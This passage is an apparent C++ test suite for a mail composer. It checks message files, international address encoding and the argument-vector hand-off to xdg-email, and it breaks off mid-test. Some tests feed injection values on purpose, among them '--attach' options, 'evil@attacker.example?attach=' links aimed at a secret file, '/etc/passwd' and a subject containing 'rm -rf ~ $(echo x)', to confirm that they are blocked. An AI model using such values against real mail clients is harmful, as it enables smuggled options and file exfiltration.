// The mail composer: the messages it writes, read back with a mail reader's parser (GMime), where
// they go, what the delegate hears, and the hand-off to the desktop's mail client.
#include <gmime/gmime.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>

#include <signal.h>

#include "platform/foundation/NSFileManager.h"
#include "platform/foundation/RunLoop.h"
#include "platform/foundation/Sandbox.h"
#include "platform/messageui/MFMailComposeViewController.h"
#include "platform/uikit/Actionability.h"
#include "platform/uikit/KeyboardInput.h"
#include "platform/uikit/UIAlertController.h"
#include "platform/uikit/UIScreen.h"
#include "platform/uikit/UIWindow.h"
#include "tests/support/PlatformTest.h"

namespace quillora::test {

using namespace platform;

namespace {

struct Outcome {
    MFMailComposeResult result;
    std::optional<NSError> error;
};

class RecordingDelegate : public MFMailComposeViewControllerDelegate {
public:
    std::vector<Outcome> outcomes;
    void mailComposeController_didFinishWithResult_error(MFMailComposeViewController&,
                                                         MFMailComposeResult result,
                                                         const std::optional<NSError>& error) override {
        outcomes.push_back({result, error});
    }
};

// A message file as a mail reader sees it.
struct ParsedMail {
    std::string from, to, subject, messageId, contentType, charset, body, unsent;
    gint64 date = 0;
};

std::optional<ParsedMail> parse(const std::filesystem::path& file) {
    g_mime_init();
    GMimeStream* stream = g_mime_stream_file_open(file.c_str(), "r", nullptr);
    if (!stream) return std::nullopt;
    GMimeParser* parser = g_mime_parser_new_with_stream(stream);
    GMimeMessage* message = g_mime_parser_construct_message(parser, nullptr);
    g_object_unref(parser);
    g_object_unref(stream);
    if (!message) return std::nullopt;
    ParsedMail mail;
    auto list = [](InternetAddressList* l) {
        char* s = internet_address_list_to_string(l, nullptr, FALSE);
        std::string out = s ? s : "";
        g_free(s);
        return out;
    };
    mail.from = list(g_mime_message_get_from(message));
    mail.to = list(g_mime_message_get_to(message));
    if (const char* s = g_mime_message_get_subject(message)) mail.subject = s;
    if (const char* id = g_mime_message_get_message_id(message)) mail.messageId = id;
    if (GDateTime* date = g_mime_message_get_date(message)) mail.date = g_date_time_to_unix(date);
    if (const char* u = g_mime_object_get_header(GMIME_OBJECT(message), "X-Unsent")) mail.unsent = u;
    GMimeObject* part = g_mime_message_get_mime_part(message);
    if (GMIME_IS_TEXT_PART(part)) {
        GMimeContentType* type = g_mime_object_get_content_type(part);
        mail.contentType = std::string(g_mime_content_type_get_media_type(type)) + "/" +
                           g_mime_content_type_get_media_subtype(type);
        if (const char* c = g_mime_text_part_get_charset(GMIME_TEXT_PART(part))) mail.charset = c;
        char* text = g_mime_text_part_get_text(GMIME_TEXT_PART(part));
        mail.body = text ? text : "";
        g_free(text);
        // The last line of a message ends with a line break on the wire; the reader keeps it.
        if (!mail.body.empty() && mail.body.back() == '\n') mail.body.pop_back();
    }
    g_object_unref(message);
    return mail;
}

std::vector<std::filesystem::path> filesIn(const std::filesystem::path& folder) {
    std::vector<std::filesystem::path> out;
    std::error_code ec;
    for (const auto& entry : std::filesystem::directory_iterator(folder, ec))
        out.push_back(entry.path());
    return out;
}

// What Python's mail parser (policy.default, as mail tools written in Python read mail) finds
// wrong in a message file: the message's defects and each header's, one per line; empty when none.
std::string pythonDefects(const std::filesystem::path& file) {
    const auto script = file.parent_path() / "defects.py";
    std::ofstream(script)
        << "import sys, email\n"
           "from email import policy\n"
           "m = email.message_from_binary_file(open(sys.argv[1], 'rb'), policy=policy.default)\n"
           "for d in m.defects: print('message', type(d).__name__)\n"
           "for name, value in m.items():\n"
           "    for d in getattr(value, 'defects', ()): print(name, type(d).__name__)\n"
           "    str(value)\n"
           "print('From:', m['From'].addresses[0].domain)\n";
    std::string out;
    const std::string command = "python3 '" + script.string() + "' '" + file.string() + "' 2>&1";
    if (FILE* pipe = popen(command.c_str(), "r")) {
        char buffer[512];
        while (std::fgets(buffer, sizeof buffer, pipe))
            out += buffer;
        pclose(pipe);
    }
    return out;
}

std::string textOf(const std::filesystem::path& file) {
    std::ifstream in(file, std::ios::binary);
    return std::string(std::istreambuf_iterator<char>(in), {});
}

// The header lines of a message file (up to the first empty line).
std::string headersOf(const std::filesystem::path& file) {
    std::ifstream in(file, std::ios::binary);
    std::string headers, line;
    while (std::getline(in, line) && line != "\r" && !line.empty())
        headers += line + "\n";
    return headers;
}

// A service whose hand-over always fails, as a full outbox or a broken client would.
class FailingService : public MailService {
public:
    bool canSendMail() const override { return true; }
    void deliver(const MailDraft&, const std::filesystem::path&, Delivered done) override {
        done(NSError{"MFMailComposeErrorDomain", 1, "the mail client refused it"});
    }
};

} // namespace

class MailComposerTest : public PlatformTest {
protected:
    void SetUp() override {
        PlatformTest::SetUp();
        if (const char* e = std::getenv("EMAIL")) savedEmail_ = e;
        unsetenv("EMAIL");
        composer = std::make_shared<MFMailComposeViewController>();
        composer->mailComposeDelegate = delegate;
        composer->setToRecipients({"support@example.org", "Help Desk <help@example.org>"});
        composer->setSubject("Grüße from the app");
        composer->setMessageBody_isHTML("First line\nsecond line with ü and 🤓", false);
    }
    void TearDown() override {
        if (savedEmail_)
            setenv("EMAIL", savedEmail_->c_str(), 1);
        else
            unsetenv("EMAIL");
        PlatformTest::TearDown();
    }
    std::filesystem::path outbox() const { return Sandbox::documents() / "Mail" / "Outbox"; }
    std::filesystem::path drafts() const { return Sandbox::documents() / "Mail" / "Drafts"; }

    std::shared_ptr<RecordingDelegate> delegate = std::make_shared<RecordingDelegate>();
    std::shared_ptr<MFMailComposeViewController> composer;

private:
    std::optional<std::string> savedEmail_;
};

TEST_F(MailComposerTest, SendWritesARealMessageToTheOutboxAndReportsSent) {
    ASSERT_TRUE(composer->userSend());
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Sent);
    EXPECT_FALSE(delegate->outcomes[0].error);
    auto files = filesIn(outbox());
    ASSERT_EQ(files.size(), 1u);
    EXPECT_EQ(files[0].extension(), ".eml");
    EXPECT_EQ(composer->writtenFile(), files[0]);
    EXPECT_TRUE(filesIn(drafts()).empty());
    EXPECT_TRUE(consoleHas("Mail kept in " + files[0].string()))
        << "without a window the console names the file";

    auto mail = parse(files[0]);
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->to, "support@example.org, Help Desk <help@example.org>");
    EXPECT_EQ(mail->subject, "Grüße from the app");
    EXPECT_EQ(mail->contentType, "text/plain");
    EXPECT_EQ(mail->charset, "utf-8");
    EXPECT_EQ(mail->body, "First line\nsecond line with ü and 🤓");
    EXPECT_FALSE(mail->messageId.empty());
    EXPECT_EQ(mail->date, static_cast<gint64>(RunLoop::main().wallTime())) << "the date comes from the clock";
    EXPECT_EQ(mail->from, "");
    EXPECT_EQ(mail->unsent, "1") << "without $EMAIL the client is to finish it";

    // The composer is done: pressing again neither writes nor reports.
    EXPECT_FALSE(composer->userSend());
    EXPECT_FALSE(composer->userCancel());
    EXPECT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(filesIn(outbox()).size(), 1u);
}

TEST_F(MailComposerTest, FromComesFromTheEnvironmentAndHTMLBodiesStayHTML) {
    setenv("EMAIL", "Ada Writer <ada@example.net>", 1);
    composer->setMessageBody_isHTML("<p>Hello <b>there</b></p>", true);
    ASSERT_TRUE(composer->userSend());
    auto mail = parse(filesIn(outbox()).at(0));
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->from, "Ada Writer <ada@example.net>");
    EXPECT_EQ(mail->unsent, "");
    EXPECT_EQ(mail->contentType, "text/html");
    EXPECT_EQ(mail->body, "<p>Hello <b>there</b></p>");
    EXPECT_NE(mail->messageId.find("@example.net"), std::string::npos) << mail->messageId;
}

TEST_F(MailComposerTest, InternationalDomainsTravelInTheirAsciiFormAndEveryReaderTakesTheMessage) {
    setenv("EMAIL", "Zo\u00E9 Ex\u00E4mple <zoe@ex\u00E4mple.com>", 1);
    composer->setToRecipients({"Bob <bob@b\u00FCcher.de>"});
    composer->setCcRecipients({"ana@\u0645\u062B\u0627\u0644.\u0625\u062E\u062A\u0628\u0627\u0631"});
    ASSERT_TRUE(composer->userSend());
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    const auto file = filesIn(outbox()).at(0);
    const std::string headers = headersOf(file);
    EXPECT_TRUE(std::all_of(headers.begin(), headers.end(), [](char c) { return (c & 0x80) == 0; }))
        << "no raw byte in any header:\n"
        << headers;
    EXPECT_NE(headers.find("<zoe@xn--exmple-cua.com>"), std::string::npos) << headers;
    EXPECT_NE(headers.find("<bob@xn--bcher-kva.de>"), std::string::npos) << headers;
    EXPECT_NE(headers.find("ana@xn--mgbh0fb.xn--kgbechtv"), std::string::npos) << headers;
    auto mail = parse(file);
    ASSERT_TRUE(mail);
    EXPECT_NE(mail->from.find("zoe@xn--exmple-cua.com"), std::string::npos) << mail->from;
    EXPECT_NE(mail->from.find("Zo\u00E9 Ex\u00E4mple"), std::string::npos)
        << "the name reads back: " << mail->from;
    EXPECT_TRUE(mail->messageId.ends_with("@xn--exmple-cua.com")) << mail->messageId;
    EXPECT_EQ(pythonDefects(file), "From: xn--exmple-cua.com\n");
}

TEST_F(MailComposerTest, SaveGoesToDraftsAndCancelWritesNothing) {
    ASSERT_TRUE(composer->userSave());
    EXPECT_EQ(delegate->outcomes.at(0).result, MFMailComposeResult::Saved);
    EXPECT_EQ(filesIn(drafts()).size(), 1u);
    EXPECT_TRUE(filesIn(outbox()).empty());
    EXPECT_EQ(parse(filesIn(drafts())[0])->subject, "Grüße from the app");

    auto other = std::make_shared<MFMailComposeViewController>();
    other->mailComposeDelegate = delegate;
    ASSERT_TRUE(other->userCancel());
    EXPECT_EQ(delegate->outcomes.at(1).result, MFMailComposeResult::Cancelled);
    EXPECT_FALSE(delegate->outcomes[1].error);
    EXPECT_EQ(filesIn(drafts()).size(), 1u);
    EXPECT_TRUE(filesIn(outbox()).empty());
}

TEST_F(MailComposerTest, FailuresAreReportedAsFailedWithTheirErrorNeverAsSent) {
    // The service refuses the message.
    MailService::setShared(std::make_shared<FailingService>());
    ASSERT_TRUE(composer->userSend());
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Failed);
    ASSERT_TRUE(delegate->outcomes[0].error);
    EXPECT_EQ(delegate->outcomes[0].error->localizedDescription, "the mail client refused it");

    // The outbox cannot be made: a file stands where its folder should be. Nothing was written,
    // so the composer is not finished (on screen an alert says why; see the tests below).
    MailService::setShared(nullptr);
    std::filesystem::remove_all(Sandbox::documents() / "Mail");
    writeFile(Sandbox::documents() / "Mail", "not a folder");
    auto second = std::make_shared<MFMailComposeViewController>();
    second->mailComposeDelegate = delegate;
    second->setToRecipients({"support@example.org"});
    ASSERT_TRUE(second->userSend());
    EXPECT_EQ(delegate->outcomes.size(), 1u) << "a mail that was not written is not finished";
    EXPECT_FALSE(second->isFinished());
    EXPECT_FALSE(second->writtenFile());
    EXPECT_TRUE(consoleHas("Mail not written: The folder “" +
                           (Sandbox::documents() / "Mail" / "Outbox").string() +
                           "” could not be created: Not a directory"));
    ASSERT_TRUE(second->userCancel());
    EXPECT_EQ(delegate->outcomes.at(1).result, MFMailComposeResult::Cancelled);
}

TEST_F(MailComposerTest, WithADesktopTheMessageGoesToTheMailClientThroughAnArgumentVector) {
    auto service = std::make_shared<OutboxMailService>();
    service->setHandOffEnabled([] { return true; });
    std::vector<std::vector<std::string>> runs;
    std::string handler = "thunderbird.desktop\n";
    int emailStatus = 0;
    service->setProcessRunner([&](const std::vector<std::string>& argv, OutboxMailService::Output output)
                                  -> std::optional<OutboxMailService::ProcessResult> {
        runs.push_back(argv);
        if (argv[0] == "xdg-mime") return OutboxMailService::ProcessResult{0, handler};
        EXPECT_EQ(output, OutboxMailService::Output::discarded) << "what the mail client writes is not read";
        return OutboxMailService::ProcessResult{emailStatus, ""};
    });
    MailService::setShared(service);
    // Text that a shell would take apart stays one argument, and a URL's delimiters stay text.
    composer->setSubject("Hi; rm -rf ~ $(echo x) & ?");
    ASSERT_TRUE(composer->userSend());
    EXPECT_TRUE(composer->isBusy()) << "handed over on a worker, not inside the press";
    EXPECT_FALSE(composer->userSend()) << "Send is not pressed twice meanwhile";
    advance(0);
    EXPECT_EQ(delegate->outcomes.at(0).result, MFMailComposeResult::Sent);
    ASSERT_EQ(runs.size(), 2u);
    EXPECT_EQ(runs[0], (std::vector<std::string>{"xdg-mime", "query", "default", "x-scheme-handler/mailto"}));
    EXPECT_EQ(runs[1],
              (std::vector<std::string>{
                  "xdg-email", "--utf8",
                  "mailto:support@example.org,help@example.org?subject=Hi%3B%20rm%20-rf%20~%20%24%28echo%"
                  "20x%29%20%26%20%3F&body=First%20line%0D%0Asecond%20line%20with%20%C3%BC%20and%20%"
                  "F0%9F%A4%93"}));

    // The client fails: the message stays in the outbox and the composer says failed.
    emailStatus = 3;
    auto second = std::make_shared<MFMailComposeViewController>();
    second->mailComposeDelegate = delegate;
    second->setToRecipients({"support@example.org"});
    ASSERT_TRUE(second->userSend());
    advance(0);
    EXPECT_EQ(delegate->outcomes.at(1).result, MFMailComposeResult::Failed);
    EXPECT_EQ(filesIn(outbox()).size(), 2u);

    // No client handles mailto: nothing sends the message, which is kept, and the console names it.
    handler = "";
    runs.clear();
    auto third = std::make_shared<MFMailComposeViewController>();
    third->mailComposeDelegate = delegate;
    third->setToRecipients({"support@example.org"});
    ASSERT_TRUE(third->userSend());
    advance(0);
    EXPECT_EQ(delegate->outcomes.at(2).result, MFMailComposeResult::Failed);
    EXPECT_FALSE(third->userSend()) << "finished: the message is in the outbox already";
    EXPECT_EQ(runs.size(), 1u) << "xdg-email is not run";
    EXPECT_TRUE(
        consoleHas("No mail client handles mailto: links; mail kept in " + third->writtenFile()->string()));
}

// What a person types into To cannot become an option of xdg-email or a part of its mailto: link:
// only the entries that are addresses go, to the mail client and into the outbox's message alike.
// The real xdg-email reads the arguments; its hook (a program it hands the final link to, found
// first on PATH) writes down what it would have opened.
TEST_F(MailComposerTest, OnlyAddressesReachTheMailClientAndTheOutboxKeepsTheMessageHandedOver) {
    if (!std::filesystem::exists("/usr/bin/xdg-email")) GTEST_SKIP() << "xdg-email is not installed";
    const auto tools = home / "tools";
    writeFile(tools / "xdg-mime", "#!/bin/sh\necho mail.desktop\n");
    writeFile(tools / "xdg-email-hook.sh", "#!/bin/sh\nprintf '%s' \"$1\" > \"$0.url\"\n");
    for (const char* tool : {"xdg-mime", "xdg-email-hook.sh"})
        std::filesystem::permissions(tools / tool, std::filesystem::perms::owner_all);
    const std::string path = std::getenv("PATH") ? std::getenv("PATH") : "/usr/bin:/bin";
    setenv("PATH", (tools.string() + ":" + path).c_str(), 1);
    writeFile(home / "secret.txt", "not to be mailed");
    const std::string secret = (home / "secret.txt").string();

    auto service = std::make_shared<OutboxMailService>();
    service->setHandOffEnabled([] { return true; });
    MailService::setShared(service);
    composer->setToRecipients(
        {"support@example.org", "--attach", secret, "mailto:evil@attacker.example?attach=" + secret,
         "evil@attacker.example?attach=" + secret, "-x@b.org", "Bob <bob@b\u00FCcher.de>"});
    composer->setCcRecipients({"--attach=" + secret, "ana@example.net"});
    composer->setSubject("Hi & bye?attach=" + secret);
    ASSERT_TRUE(composer->userSend());
    advance(0);
    setenv("PATH", path.c_str(), 1);
    ASSERT_EQ(delegate->outcomes.at(0).result, MFMailComposeResult::Sent)
        << (delegate->outcomes[0].error ? delegate->outcomes[0].error->localizedDescription : "");

    const std::string url = textOf(tools / "xdg-email-hook.sh.url");
    std::string encodedSecret;
    for (char c : secret)
        encodedSecret += c == '/' ? std::string("%2F") : std::string(1, c);
    EXPECT_EQ(url,
              "mailto:support@example.org,-x@b.org,bob@xn--bcher-kva.de?cc=ana@example.net&subject=Hi%20%26%"
              "20bye%3Fattach%3D" +
                  encodedSecret +
                  "&body=First%20line%0D%0Asecond%20line%20with%20%C3%BC%20and%20%F0%9F%A4%93");
    EXPECT_EQ(url.find("&attach="), std::string::npos) << url;
    auto mail = parse(filesIn(outbox()).at(0));
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->to, "support@example.org, -x@b.org, Bob <bob@xn--bcher-kva.de>");
    const std::string headers = headersOf(filesIn(outbox()).at(0));
    EXPECT_EQ(headers.find("attacker"), std::string::npos) << headers;
    EXPECT_NE(headers.find("Cc: ana@example.net\n"), std::string::npos) << headers;
}

TEST_F(MailComposerTest, TheProcessRunnerRunsProgramsWithoutAShellAndEndsWithTheProgramNotItsChildren) {
    auto echoed = OutboxMailService::runProcess({"printf", "%s|", "a b", "$(x)", ";"});
    ASSERT_TRUE(echoed);
    EXPECT_EQ(echoed->status, 0);
    EXPECT_EQ(echoed->output, "a b|$(x)|;|");
    auto failing = OutboxMailService::runProcess({"false"});
    ASSERT_TRUE(failing);
    EXPECT_NE(failing->status, 0);
    EXPECT_FALSE(OutboxMailService::runProcess({"no-such-program-anywhere-here"}));

    // A program that leaves a child holding its output, as xdg-email leaves a mail client: it is
    // done when the program is, with what the program wrote, the child still running.
    for (auto output : {OutboxMailService::Output::captured, OutboxMailService::Output::discarded}) {
        const auto pidFile = home / "child.pid";
        auto left = OutboxMailService::runProcess(
            {"sh", "-c", "echo started; sleep 30 & echo $! > \"$0\"; exit 4", pidFile.string()}, output);
        ASSERT_TRUE(left);
        EXPECT_EQ(left->status, 4);
        EXPECT_EQ(left->output, output == OutboxMailService::Output::captured ? "started\n" : "");
        const std::string child = textOf(pidFile);
        // Its state, after the name in parentheses: a child that has ended is gone or a zombie.
        const std::string stat = textOf("/proc/" + child.substr(0, child.find('\n')) + "/stat");
        const auto state = stat.find(") ");
        EXPECT_TRUE(state != std::string::npos && stat[state + 2] != 'Z')
            << "returned only once the child had ended: " << stat;
        kill(std::stoi(child), SIGKILL);
    }
}

TEST_F(MailComposerTest, TheSharedServiceDecidesWhetherMailCanBeSent) {
    EXPECT_TRUE(MFMailComposeViewController::canSendMail());
    auto service = std::dynamic_pointer_cast<OutboxMailService>(MailService::shared());
    ASSERT_TRUE(service);
    service->setAccountAvailable(false);
    EXPECT_FALSE(MFMailComposeViewController::canSendMail());
    resetSharedInstances();
    EXPECT_TRUE(MFMailComposeViewController::canSendMail()) << "tests start from a device that can send";
}

// ---- The composer on screen, used with the finger and the keys ----

TEST_F(MailComposerTest, AnAddressIsValidWithALocalPartAndADomainAndAFieldSplitsAtItsCommas) {
    for (const char* valid :
         {"a@b.org", "Help Desk <help@example.org>", "\"Doe, Jane\" <jane@example.org>", "user@localhost",
          "first.last+tag@sub.example.co.uk", "-x@b.org", "ana@b\u00FCcher.de"})
        EXPECT_TRUE(MFMailComposeViewController::isValidAddress(valid)) << valid;
    for (const char* invalid :
         {"", "ada", "ada@", "@example.org", "ada@@example.org", "ada@example..org", "ada@.example.org",
          "Ada <>", "a@b.org, c@d.org", "ada at example.org", "--attach", "/etc/passwd", "mailto:a@b.org",
          "a@b.org?attach=/etc/passwd", "a@-b.org"})
        EXPECT_FALSE(MFMailComposeViewController::isValidAddress(invalid)) << invalid;
    EXPECT_EQ(
        MFMailComposeViewController::recipientsInText(
            " a@b.org,\"Doe, Jane\" <jane@example.org> ;; <x,y@z.org>, , last"),
        (std::vector<std::string>{"a@b.org", "\"Doe, Jane\" <jane@example.org>", "<x,y@z.org>", "last"}));
    EXPECT_TRUE(MFMailComposeViewController::recipientsInText(" , ").empty());
}

class MailComposerScreenTest : public MailComposerTest {
protected:
    void SetUp() override {
        MailComposerTest::SetUp();
        root = std::make_shared<UIViewController>();
        window = std::make_shared<UIWindow>();
        window->setRootViewController(root);
        window->makeKeyAndVisible();
        root->presentViewController_animated_completion(composer, true, nullptr);
        runUntilIdle();
    }
    void TearDown() override {
        window.reset();
        root.reset();
        MailComposerTest::TearDown();
    }
    // A finger on what the screen shows; the reason why not when nothing of it can be touched.
    std::string touch(UIView& view, const std::string& name) {
        auto reached = Actionability::reach(view, name);
        if (!reached) return reached.reason;
        Actionability::tap(*reached.point);
        runUntilIdle();
        return "";
    }
    bool key(const std::string& combo) { return KeyboardInput::pressKey(*KeyCombo::parse(combo)); }
    std::shared_ptr<UIAlertController> alert() const {
        return std::dynamic_pointer_cast<UIAlertController>(composer->presentedViewController());
    }
    // Touches the shown alert's or action sheet's button titled `title`.
    void pressAlert(const std::string& title) {
        auto shown = alert();
        ASSERT_TRUE(shown) << "no alert for " << title;
        auto view = std::dynamic_pointer_cast<UIAlertControllerView>(shown->view());
        const auto& actions = shown->actions();
        for (std::size_t i = 0; i < actions.size(); ++i)
            if (actions[i]->title() == title) {
                const CGRect r = view->layout().buttons.at(i), f = view->frame();
                auto reached = Actionability::reach(
                    *view, title, CGRect{r.minX() - f.minX(), r.minY() - f.minY(), r.width(), r.height()});
                ASSERT_TRUE(reached) << reached.reason;
                Actionability::tap(*reached.point);
                runUntilIdle();
                return;
            }
        FAIL() << "the alert has no " << title;
    }

    std::shared_ptr<UIViewController> root;
    std::shared_ptr<UIWindow> window;
};

TEST_F(MailComposerScreenTest,
       TheFieldsShowTheDraftAndWhatIsTypedIsWhatIsSentWithSendFollowingTheRecipients) {
    EXPECT_EQ(composer->toField()->text(), "support@example.org, Help Desk <help@example.org>");
    EXPECT_EQ(composer->subjectField()->text(), "Grüße from the app");
    EXPECT_EQ(composer->bodyView()->text(), "First line\nsecond line with ü and 🤓");
    EXPECT_TRUE(composer->sendButton()->isEnabled());
    EXPECT_FALSE(composer->showsSeparateBcc());
    EXPECT_EQ(touch(*composer->bccField(), "Bcc"), "'Bcc' is not shown") << "Bcc waits behind Cc/Bcc";
    // Every address shows: the To row grows to its lines and the rows below make way.
    const auto& to = *composer->toField();
    EXPECT_GT(to.contentSize().height, 44) << "two addresses take two lines";
    EXPECT_GE(to.frame().height(), to.contentSize().height);
    EXPECT_GE(composer->ccField()->frame().minY(), to.frame().maxY());

    // The To field emptied with the keys: Send cannot be pressed.
    ASSERT_EQ(touch(*composer->toField(), "To"), "");
    ASSERT_TRUE(composer->toField()->isFirstResponder());
    ASSERT_TRUE(key("ctrl+a"));
    ASSERT_TRUE(key("BackSpace"));
    EXPECT_TRUE(composer->draft().toRecipients.empty());
    EXPECT_EQ(touch(*composer->sendButton(), "Send"), "'Send' is disabled");
    EXPECT_FALSE(composer->userSend());
    ASSERT_TRUE(KeyboardInput::insertText("ada"));
    EXPECT_FALSE(composer->sendButton()->isEnabled()) << "'ada' is no address";
    ASSERT_TRUE(KeyboardInput::insertText("@example.net, Bob <bob"));
    EXPECT_TRUE(composer->sendButton()->isEnabled()) << "one valid recipient is enough";

    // Return goes on to Cc/Bcc, which opens into a Cc and a Bcc row.
    ASSERT_TRUE(key("Return"));
    EXPECT_TRUE(composer->ccField()->isFirstResponder());
    EXPECT_TRUE(composer->showsSeparateBcc());
    ASSERT_TRUE(KeyboardInput::insertText("cc@example.org"));
    ASSERT_EQ(touch(*composer->bccField(), "Bcc"), "");
    ASSERT_TRUE(KeyboardInput::insertText("hidden@example.org"));

    // The subject's end replaced, then a line typed at the end of the body.
    ASSERT_EQ(touch(*composer->subjectField(), "Subject"), "");
    ASSERT_TRUE(key("End"));
    for (int i = 0; i < 7; ++i)
        ASSERT_TRUE(key("BackSpace"));
    ASSERT_TRUE(KeyboardInput::insertText("again"));
    ASSERT_TRUE(key("Return"));
    EXPECT_TRUE(composer->bodyView()->isFirstResponder()) << "Return in the subject goes to the body";
    ASSERT_TRUE(key("ctrl+End"));
    ASSERT_TRUE(KeyboardInput::insertText("\nThanks."));

    ASSERT_EQ(touch(*composer->sendButton(), "Send"), "");
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Sent);
    auto mail = parse(filesIn(outbox()).at(0));
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->to, "ada@example.net") << "what is no address goes nowhere";
    EXPECT_EQ(mail->subject, "Grüße from again");
    EXPECT_EQ(mail->body, "First line\nsecond line with ü and 🤓\nThanks.");
    const std::string text =
        *NSFileManager::defaultManager().contentsAtPath(filesIn(outbox()).at(0).string());
    EXPECT_NE(text.find("Cc: cc@example.org"), std::string::npos) << text;
    EXPECT_NE(text.find("Bcc: hidden@example.org"), std::string::npos) << text;
}

TEST_F(MailComposerScreenTest, CancelAsksToDeleteOrSaveTheDraftAndItsOwnCancelKeepsWriting) {
    ASSERT_EQ(touch(*composer->cancelButton(), "Cancel"), "");
    auto sheet = alert();
    ASSERT_TRUE(sheet);
    EXPECT_EQ(sheet->preferredStyle(), UIAlertControllerStyle::ActionSheet);
    std::vector<std::pair<std::string, UIAlertActionStyle>> actions;
    for (const auto& a : sheet->actions())
        actions.emplace_back(a->title().value_or(""), a->style());
    EXPECT_EQ(actions, (std::vector<std::pair<std::string, UIAlertActionStyle>>{
                           {"Delete Draft", UIAlertActionStyle::Destructive},
                           {"Save Draft", UIAlertActionStyle::Default},
                           {"Cancel", UIAlertActionStyle::Cancel}}));
    pressAlert("Cancel");
    EXPECT_FALSE(alert());
    EXPECT_TRUE(delegate->outcomes.empty()) << "the person goes on writing";

    // Escape asks the same question rather than dropping the mail; a second Escape is its Cancel.
    ASSERT_TRUE(key("Escape"));
    runUntilIdle();
    ASSERT_TRUE(alert());
    EXPECT_EQ(alert()->actions().size(), 3u);
    ASSERT_TRUE(key("Escape"));
    runUntilIdle();
    EXPECT_FALSE(alert());
    EXPECT_EQ(root->presentedViewController(), composer);
    EXPECT_TRUE(delegate->outcomes.empty());

    ASSERT_EQ(touch(*composer->cancelButton(), "Cancel"), "");
    pressAlert("Save Draft");
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Saved);
    EXPECT_EQ(parse(filesIn(drafts()).at(0))->subject, "Grüße from the app");
    EXPECT_FALSE(composer->sendButton()->isEnabled()) << "a finished composer sends nothing more";

    // Delete Draft writes nothing and reports a cancel; on a pad it points at Cancel.
    UIDevice::currentDevice().setUserInterfaceIdiom(UIUserInterfaceIdiom::Pad);
    root->dismissViewControllerAnimated_completion(false, nullptr);
    composer = std::make_shared<MFMailComposeViewController>();
    composer->mailComposeDelegate = delegate;
    root->presentViewController_animated_completion(composer, false, nullptr);
    runUntilIdle();
    EXPECT_FALSE(composer->sendButton()->isEnabled()) << "no recipient";
    ASSERT_EQ(touch(*composer->cancelButton(), "Cancel"), "");
    ASSERT_TRUE(alert());
    EXPECT_EQ(alert()->popoverPresentationController()->sourceView.lock(), composer->cancelButton());
    pressAlert("Delete Draft");
    EXPECT_EQ(delegate->outcomes.at(1).result, MFMailComposeResult::Cancelled);
    EXPECT_EQ(filesIn(drafts()).size(), 1u);
    EXPECT_TRUE(filesIn(outbox()).empty());
    UIDevice::currentDevice().setUserInterfaceIdiom(UIUserInterfaceIdiom::Phone);
}

TEST_F(MailComposerScreenTest, AnAddressWithALocalPartBeyondAsciiIsRefusedAndTheComposerKeepsTheMessage) {
    struct Case {
        const char* email;
        std::vector<std::string> to;
        std::string refused;
    };
    const std::vector<Case> cases{
        {"zo\u00E9@ex\u00E4mple.com", {"support@example.org"}, "zo\u00E9@ex\u00E4mple.com"},
        {"Zo\u00E9 <zoe@example.com>",
         {"support@example.org", "J\u00F6rg <j\u00F6rg@example.org>"},
         "j\u00F6rg@example.org"},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.email);
        setenv("EMAIL", c.email, 1);
        composer->setToRecipients(c.to);
        ASSERT_EQ(touch(*composer->sendButton(), "Send"), "");
        ASSERT_TRUE(alert()) << "an alert says why";
        EXPECT_EQ(alert()->title(), "Cannot Send Mail");
        EXPECT_EQ(alert()->message(), "The address \u201C" + c.refused +
                                          "\u201D cannot be used: the part before the @ may hold only ASCII "
                                          "letters, digits and symbols.");
        EXPECT_TRUE(filesIn(outbox()).empty()) << "nothing is written";
        EXPECT_TRUE(delegate->outcomes.empty());
        pressAlert("OK");
        EXPECT_EQ(root->presentedViewController(), composer) << "the composer stays with what was written";
        EXPECT_EQ(composer->bodyView()->text(), "First line\nsecond line with \u00FC and \U0001F913");
    }
    // With an address mail can carry, the same message goes.
    setenv("EMAIL", "zoe@ex\u00E4mple.com", 1);
    composer->setToRecipients({"support@example.org"});
    ASSERT_EQ(touch(*composer->sendButton(), "Send"), "");
    ASSERT_EQ(delegate->outcomes.size(), 1u);
    EXPECT_EQ(delegate->outcomes[0].result, MFMailComposeResult::Sent);
}

TEST_F(MailComposerScreenTest, AMailThatCannotBeWrittenKeepsTheComposerOpenAndAnAlertSaysWhy) {
    std::filesystem::remove_all(Sandbox::documents() / "Mail");
    writeFile(Sandbox::documents() / "Mail", "not a folder");
    const std::string why = "The folder “" + outbox().string() + "” could not be created: Not a directory";
    ASSERT_EQ(touch(*composer->sendButton(), "Send"), "");
    ASSERT_TRUE(alert()) << "an alert says why";
    EXPECT_EQ(alert()->preferredStyle(), UIAlertControllerStyle::Alert);
    EXPECT_EQ(alert()->title(), "Cannot Send Mail");
    EXPECT_EQ(alert()->message(), why);
    EXPECT_TRUE(delegate->outcomes.empty()) << "nothing is reported as sent, nor closed as failed";
    EXPECT_FALSE(composer->isFinished());
    pressAlert("OK");
    EXPECT_EQ(root->presentedViewController(), composer) << "the composer stays with what was written";
    EXPECT_EQ(composer->subjectField()->text(), "Grüße from the app");

    // Save Draft cannot write either: the same, with its own title.
    ASSERT_EQ(touch(*composer->cancelButton(), "Cancel"), "");
    pressAlert("Save Draft");
    ASSERT_TRUE(alert());
    EXPECT_EQ(alert()->title(), "Cannot Save Draft");
    EXPECT_EQ(alert()->message(),
              "The folder “" + drafts().string() + "” could not be created: Not a directory");
    pressAlert("OK");
    EXPECT_TRUE(delegate->outcomes.empty());

    // Once the folder can be made, the same Send goes through.
    std::filesystem::remove(Sandbox::documents() / "Mail");
